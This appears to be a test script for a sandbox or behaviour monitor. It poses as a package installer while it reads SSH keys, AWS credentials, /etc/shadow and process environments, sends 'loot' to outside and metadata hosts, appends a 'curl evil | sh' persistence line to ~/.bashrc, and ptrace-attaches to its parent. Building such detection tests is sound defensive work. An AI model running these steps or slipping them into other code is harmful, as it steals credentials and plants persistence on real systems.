#!/usr/bin/env python3
# tries: look like an installer while it collects secrets, calls home, stays for the next login and attacks its parent
# must: be seen in all of it, in a run whose rules only log: nothing arrives, and nothing stays
# args: --mode observe
# expect: exit=0 status=exited verdict=violated rule=private-key/log rule=credential-file/log rule=network-connect/log listener=silent
# control: skipped, it would read the secrets of whoever runs it

import ctypes
import os
import pathlib
import socket
import subprocess
import time

SECRETS = ["/root/.ssh/id_ed25519", "/home/you/.aws/credentials", "/etc/shadow", "/proc/1/environ"]
HOMES = [("203.0.113.7", 443), ("169.254.169.254", 80), ("127.0.0.1", 5432)]


def tried(act, *arguments):
    try:
        return act(*arguments)
    except OSError as error:
        return error


print("installing 3 packages")
work = pathlib.Path("package")
work.mkdir(exist_ok=True)
for name in ("setup.py", "helper.py", "README"):
    (work / name).write_text(f"# {name}\n")
subprocess.run(["sh", "-c", "uname -a; id; ls /home /root 2>/dev/null; sleep 0.1"], stdout=subprocess.DEVNULL)
for secret in SECRETS:
    tried(lambda: open(secret).read())
    time.sleep(0.03)
for home in HOMES:
    tried(lambda: socket.create_connection(home, timeout=1).sendall(b"loot"))
    time.sleep(0.02)
beacon = "for n in 1 2; do (cat /etc/passwd | base64 >/dev/null); sleep 0.05; done; echo 'curl evil | sh' >> ~/.bashrc"
subprocess.run(["sh", "-c", beacon], stderr=subprocess.DEVNULL)
ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)
print("done")
